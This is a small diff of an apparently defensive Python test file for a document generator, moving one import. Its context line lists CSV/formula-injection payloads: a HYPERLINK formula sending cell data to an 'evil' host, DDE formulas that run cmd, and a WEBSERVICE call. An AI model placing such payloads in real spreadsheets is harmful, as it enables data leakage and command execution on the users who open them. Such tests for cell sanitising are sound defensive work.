@@ -21,7 +21,8 @@ from rawooxml import docx as raw_docx
 from rawooxml import xlsx as raw_xlsx
 from specgen.writers.cellsafe import md_text, safe_text, sheet_title
 from specgen.errors import InputFileError, ProjectFileError
-from specgen.files.safety import load_json, read_csv_rows, render_user_template, sniff
+from specgen.files.safety import load_json, read_csv_rows, sniff
+from specgen.templating import render_user_template
 
 SPEC = SAMPLES / "spec_city_genai.xlsx"
 PAYLOADS = ['=HYPERLINK("http://evil/?"&A1,"開く")', "=cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"A\")", '=WEBSERVICE("http://x")',
